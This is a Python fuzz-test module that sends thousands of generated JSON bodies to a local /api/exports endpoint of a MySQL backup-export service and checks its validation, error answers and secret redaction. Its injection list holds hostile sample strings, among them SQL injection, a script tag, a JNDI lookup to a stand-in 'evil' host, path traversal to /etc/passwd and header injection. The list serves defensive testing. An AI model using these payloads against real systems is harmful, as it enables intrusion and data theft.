"""Fuzzing the front door: thousands of generated bodies POSTed to ``/api/exports``.

Everything goes through devhost's real HTTP server into the real HTTP function, with one devhost
and one emulator for the whole module. Bodies are any JSON, valid requests with one to three
fields replaced by something hostile (wrong types, huge arrays, unicode with lone surrogates,
injection strings, invalid resource ids and SAS URIs), and raw bytes (not UTF-8, truncated,
nested thousands deep). For each answer:

* it is 202, or a 4xx whose JSON error names every bad field, each a path into the body (or
  ``body`` itself); never a 5xx;
* it agrees with the validator (``parse_request``): 202 exactly when the request is valid;
* a 202 only ever for a request whose servers, SAS URIs and options pass checks written here
  independently of the validator, so a gap in the validator shows up too;
* no run starts for a refused body (the store holds one more run per 202 and no other), and at
  the end the emulator has seen exports only of servers named in accepted requests;
* no SAS signature from the body comes back in the answer.
"""

from __future__ import annotations

import http.client
import json
import re
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from armemulator import Emulator, EmulatorConfig, VirtualClock
from devhost import DevHost
from mysqlexport.errors import InvalidRequest
from mysqlexport.naming import MAX_TEMPLATE_LENGTH
from mysqlexport.redaction import redact_text
from mysqlexport.request import (
    MAX_BODY_BYTES,
    MAX_CONCURRENCY,
    MAX_DEADLINE_MINUTES,
    MAX_SAS_URIS,
    MAX_SERVERS,
    MAX_SUBSCRIPTIONS,
    parse_request,
)
from mysqlexport.sealing import Sealer
from tests.e2e.conftest import ROOT, SAS, SIG, SUB, server_id

GENERATED = 2_000
FUZZ = settings(
    max_examples=GENERATED // 4,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
SERVER_ID = re.compile(
    r"^/subscriptions/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
    r"/resourceGroups/[-\w._()]{1,90}(?<!\.)"
    r"/providers/Microsoft\.DBforMySQL/flexibleServers/[a-z0-9][a-z0-9-]{1,61}[a-z0-9]$",
    re.IGNORECASE | re.ASCII,
)
TEMPLATE = re.compile(r"^[a-z0-9{}:A-Za-z-]{1,%d}$" % MAX_TEMPLATE_LENGTH)


@dataclass
class FrontDoor:
    host: DevHost
    emu: Emulator
    posted: int = 0
    accepted: int = 0
    accepted_servers: set[str] = field(default_factory=set)
    accepted_subscriptions: set[str] = field(default_factory=set)

    def post(self, raw: bytes) -> tuple[int, str]:
        """POST ``raw`` on a new connection: on a kept-alive one devhost's answers wait ~40 ms
        for a delayed ACK (headers and body are two writes), which would take minutes here."""
        connection = http.client.HTTPConnection(urlsplit(self.host.url).netloc, timeout=60)
        try:
            connection.request(
                "POST", "/api/exports", body=raw, headers={"Content-Type": "application/json"}
            )
            answer = connection.getresponse()
            return answer.status, answer.read().decode("utf-8")
        finally:
            connection.close()

    def runs(self) -> int:
        """Fleet runs in the durable store (their children's ids carry a ':')."""
        return sum(":" not in i.instance_id for i in self.host.store.query())


@pytest.fixture(scope="module")
def door() -> Iterator[FrontDoor]:
    with ExitStack() as stack, pytest.MonkeyPatch.context() as env:
        clock = VirtualClock(start=1_800_000_000)
        emu = stack.enter_context(Emulator(EmulatorConfig(clock=clock, seed=5)))
        for key, value in {
            "ARM_ENDPOINT": emu.url,
            "IDENTITY_ENDPOINT": emu.token_endpoint,
            "IDENTITY_HEADER": emu.identity_header,
            "SAS_SEALING_KEY": Sealer.new_key(),
            "EXPORT_SCHEDULE": "0 0 3 * * *",
            "EXPORT_SCHEDULE_REQUEST": "",
        }.items():
            env.setenv(key, value)
        host = stack.enter_context(
            DevHost(ROOT, clock=clock, load_settings=False, timer_triggers=False)
        )
        yield FrontDoor(host, emu)


# --- what hostile input looks like ------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE servers; --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "\x00",
    "\u202etxt.exe",
    "\r\nX-Injected: yes",
    "\ud800",
    "\udfff\ud800",
    "\U0001d54f" * 40,
    "{server}{resourceGroup}{utc:yyyyMMddHHmmss}",
    "{utc:%Y}",
    "{__class__}",
    "sig=" + SIG,
    "a" * 5000,
    "",
    " ",
]
any_char = st.characters(exclude_categories=())  # surrogates and controls included
nasty_text = st.one_of(
    st.sampled_from(INJECTIONS), st.text(any_char, max_size=40), st.text(max_size=300)
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    nasty_text,
)
json_values = st.recursive(
    scalars,
    lambda kids: st.lists(kids, max_size=6) | st.dictionaries(nasty_text, kids, max_size=6),
    max_leaves=25,
)

ID_PARTS = [
    ("/subscriptions/", SUB),
    ("/resourceGroups/", "rg"),
    ("/providers/", "Microsoft.DBforMySQL"),
    ("/flexibleServers/", "db1"),
]


@st.composite
def resource_ids(draw: st.DrawFn) -> str:
    """Mostly-valid server ids with one part broken (or not: some are valid)."""
    parts = [list(p) for p in ID_PARTS]
    how = draw(st.sampled_from(["replace", "drop", "extend", "case", "valid", "junk"]))
    if how == "junk":
        return draw(nasty_text)
    index = draw(st.integers(0, len(parts) - 1))
    if how == "replace":
        parts[index][1] = draw(
            st.one_of(
                nasty_text,
                st.from_regex(r"\A[a-z0-9-]{0,70}\Z"),
                st.sampled_from(["-db", "db-", "a", "x" * 64, "DB1", "..", "00000000"]),
            )
        )
    elif how == "drop":
        del parts[index]
    elif how == "extend":
        parts.append(["/", draw(nasty_text)])
    elif how == "case":
        parts[index][0] = parts[index][0].upper()
    return "".join(a + b for a, b in parts)


@st.composite
def sas_uris(draw: st.DrawFn) -> str:
    """SAS URIs broken in the ways people break them (and some valid ones)."""
    how = draw(
        st.sampled_from(
            [
                *("valid", "http", "nosig", "emptysig", "userinfo", "fragment", "nopath"),
                *("long", "port", "unicode", "space", "junk", "host", "relative"),
            ]
        )
    )
    sig = f"&sig={SIG}%3D"
    base = "https://acct.blob.core.windows.net/backups?sv=2022-11-02&sr=c&sp=rcw"
    return {
        "valid": base + sig,
        "http": base.replace("https", "http") + sig,
        "nosig": base,
        "emptysig": base + "&sig=",
        "userinfo": base.replace("https://", "https://user:pw@") + sig,
        "fragment": base + sig + "#frag",
        "nopath": "https://acct.blob.core.windows.net/?sv=1" + sig,
        "long": base + "&x=" + "y" * 4100 + sig,
        "port": base.replace(".net/", f".net:{draw(st.integers(-5, 10**6))}/") + sig,
        "unicode": base.replace("backups", draw(st.text(any_char, min_size=1, max_size=5))) + sig,
        "space": base.replace("backups", "back ups") + sig,
        "junk": draw(nasty_text),
        "host": f"https://{draw(nasty_text)}/c?sv=1" + sig,
        "relative": "/backups?sv=1" + sig,
    }[how]


def big_list(item: str) -> st.SearchStrategy[list[str]]:
    return st.integers(0, 3).map(lambda extra: [item] * (MAX_SERVERS + 1 + extra))


FIELD_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "servers": st.one_of(
        st.lists(st.one_of(resource_ids(), st.just(server_id("mysqltestserver"))), max_size=6),
        st.lists(json_values, max_size=4),
        big_list(server_id("db1")),
        json_values,
    ),
    "discover": st.one_of(
        st.fixed_dictionaries(
            {"subscriptions": st.lists(st.one_of(st.just(SUB), nasty_text, st.uuids().map(str)))},
            optional={
                "resourceGroups": st.one_of(st.lists(nasty_text, max_size=3), json_values),
                "tags": st.one_of(st.dictionaries(nasty_text, nasty_text, max_size=3), json_values),
                "states": st.one_of(
                    st.lists(st.sampled_from(["Ready", "stopped", "Sleeping", ""]), max_size=3),
                    json_values,
                ),
                "colour": json_values,
            },
        ),
        st.just({"subscriptions": [SUB] * (MAX_SUBSCRIPTIONS + 1)}),
        json_values,
    ),
    "target": st.one_of(
        st.fixed_dictionaries({"sasUriList": st.lists(sas_uris(), max_size=3)}),
        st.just({"sasUriList": [SAS] * (MAX_SAS_URIS + 1)}),
        st.fixed_dictionaries({"sasUriList": st.just([SAS]), "extra": json_values}),
        json_values,
    ),
    "backupName": st.one_of(
        nasty_text,
        st.from_regex(r"\A[a-z0-9{}:yMdHms-]{0,30}\Z"),
        st.just("x" * (MAX_TEMPLATE_LENGTH + 1)),
        json_values,
    ),
    "backupFormat": st.one_of(
        st.sampled_from(["Raw", "CollatedFormat", "raw", "None", "Zip", ""]), json_values
    ),
    "maxConcurrency": st.one_of(st.integers(-5, MAX_CONCURRENCY + 5), st.integers(), json_values),
    "deadlineMinutes": st.one_of(
        st.integers(-5, MAX_DEADLINE_MINUTES + 5), st.integers(), json_values
    ),
    "dryRun": json_values,
}


def valid_body() -> dict[str, Any]:
    return {"servers": [server_id("mysqltestserver")], "target": {"sasUriList": [SAS]}}


@st.composite
def mutated_bodies(draw: st.DrawFn) -> dict[str, Any]:
    body = valid_body()
    for name in draw(st.lists(st.sampled_from(sorted(FIELD_VALUES)), min_size=1, max_size=3)):
        body[name] = draw(FIELD_VALUES[name])
    if draw(st.booleans()) and "discover" in body and draw(st.booleans()):
        body.pop("servers", None)
    if draw(st.integers(0, 9)) == 0:
        body[draw(nasty_text)] = draw(json_values)
    return body


raw_bodies = st.one_of(
    st.binary(max_size=200),
    st.sampled_from(
        [
            b"[" * 100_000,
            b"[" * 100_000 + b"]" * 100_000,
            b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
            b'{"servers": [',
            b"\xff\xfe{}",
            b'{"maxConcurrency": ' + b"9" * 5000 + b"}",
            b"null",
            b"",
        ]
    ),
    json_values.map(lambda v: json.dumps(v)[:-1].encode("utf-8", "surrogatepass")),
)


# --- the properties ------------------------------------------------------------------------


def encode(body: Any) -> bytes:
    return json.dumps(body).encode()  # ensure_ascii: lone surrogates travel as \\udxxx escapes


def expected(raw: bytes) -> tuple[int, set[str]]:
    """What the front door must answer, from the validator: (status, fields named)."""
    if len(raw) > MAX_BODY_BYTES:
        return 413, {"body"}
    try:
        body = json.loads(raw.decode("utf-8")) if raw else None
    except (UnicodeDecodeError, ValueError, RecursionError):
        return 400, {"body"}
    try:
        parse_request(body)
    except InvalidRequest as err:
        return 400, set(err.problems)
    return 202, set()


def names_a_field(target: str, body: Any) -> bool:
    """``target`` is ``body`` or a path whose first segment is a field of the request."""
    keys = {redact_text(str(k)[:100]) for k in body} if isinstance(body, dict) else set()
    root = re.split(r"[.\[]", target, maxsplit=1)[0]
    return target in keys or root in {"body", "servers", "discover", "target"} | keys


def independently_valid(body: dict[str, Any]) -> None:
    """What a 202 promises, checked without the validator."""
    servers = body.get("servers") or []
    assert len(servers) <= MAX_SERVERS
    for server in servers:
        assert SERVER_ID.match(server), server
    uris = body["target"]["sasUriList"]
    assert 1 <= len(uris) <= MAX_SAS_URIS
    for uri in uris:
        assert uri.isascii() and uri.isprintable() and " " not in uri and len(uri) <= 4096
        parts = urlsplit(uri)
        assert parts.scheme == "https" and parts.hostname and parts.path.strip("/")
        assert parts.port is None or 0 <= parts.port <= 65535
        assert parse_qs(parts.query).get("sig") and not parts.fragment
    assert TEMPLATE.match(body.get("backupName", "{server}"))
    assert body.get("backupFormat") in (None, "Raw", "CollatedFormat")
    for name, top in (("maxConcurrency", MAX_CONCURRENCY), ("deadlineMinutes", 10080)):
        value = body.get(name)
        assert value is None or (type(value) is int and 1 <= value <= top)
    assert body.get("dryRun", False) in (True, False)


def check(door: FrontDoor, raw: bytes) -> None:
    status, fields = expected(raw)
    runs = door.runs()
    code, text = door.post(raw)
    door.posted += 1
    assert code < 500, text[:500]
    assert code == status, (code, text[:500])
    assert SIG not in text
    if status == 202:
        door.accepted += 1
        body = json.loads(raw)
        independently_valid(body)
        door.accepted_servers.update(s.lower() for s in body.get("servers") or [])
        door.accepted_subscriptions.update(
            s.lower() for s in (body.get("discover") or {}).get("subscriptions", [])
        )
        assert door.runs() == runs + 1
        return
    error = json.loads(text)["error"]
    targets = {d["target"] for d in error["details"]}
    assert targets == fields
    try:
        body = json.loads(raw)
    except (UnicodeDecodeError, ValueError, RecursionError):
        body = None
    assert all(names_a_field(t, body) for t in targets), targets
    assert door.runs() == runs, "a refused request started a run"


@FUZZ
@given(body=json_values)
def test_any_json_is_answered_without_a_5xx(door: FrontDoor, body: Any) -> None:
    check(door, encode(body))


@FUZZ
@given(body=mutated_bodies())
def test_hostile_fields_are_named_and_start_nothing(door: FrontDoor, body: dict[str, Any]) -> None:
    check(door, encode(body))


@FUZZ
@given(body=mutated_bodies())
def test_hostile_fields_sent_as_raw_unicode(door: FrontDoor, body: dict[str, Any]) -> None:
    raw = json.dumps(body, ensure_ascii=False).encode("utf-8", "surrogatepass")
    check(door, raw)


@FUZZ
@given(raw=raw_bodies)
def test_bytes_that_are_not_a_request(door: FrontDoor, raw: bytes) -> None:
    check(door, raw)


@pytest.mark.parametrize("extra", [0, 1])
def test_the_body_size_limit(door: FrontDoor, extra: int) -> None:
    body = valid_body()
    body["backupName"] = "{server}"
    padding = MAX_BODY_BYTES - len(encode(body)) - len(', "x": ""') + extra
    body["x"] = "y" * padding
    raw = encode(body)
    assert len(raw) == MAX_BODY_BYTES + extra
    check(door, raw)  # at the limit: 400 (unknown field "x"); one byte over: 413


def test_limits_servers_and_template_length(door: FrontDoor) -> None:
    many = valid_body() | {"servers": [server_id("db1")] * MAX_SERVERS, "dryRun": True}
    assert len(encode(many)) < MAX_BODY_BYTES  # the largest request fits in the size limit
    check(door, encode(many))
    check(door, encode(many | {"servers": many["servers"] + [server_id("db2")]}))
    name = "{server}-" + "x" * (MAX_TEMPLATE_LENGTH - len("{server}-"))
    check(door, encode(valid_body() | {"backupName": name, "dryRun": True}))
    check(door, encode(valid_body() | {"backupName": name + "x"}))


def test_thousands_were_posted_and_only_accepted_servers_were_exported(door: FrontDoor) -> None:
    assert door.posted >= GENERATED
    print(f"\nfuzz: {door.posted} bodies posted, {door.accepted} accepted")
    assert 0 < door.accepted < door.posted
    door.host.run_until_idle(timeout=60)
    for export in door.emu.exports():
        assert (
            export.server_id.lower() in door.accepted_servers
            or export.subscription.lower() in door.accepted_subscriptions
        ), export.server_id
    assert door.runs() == door.accepted
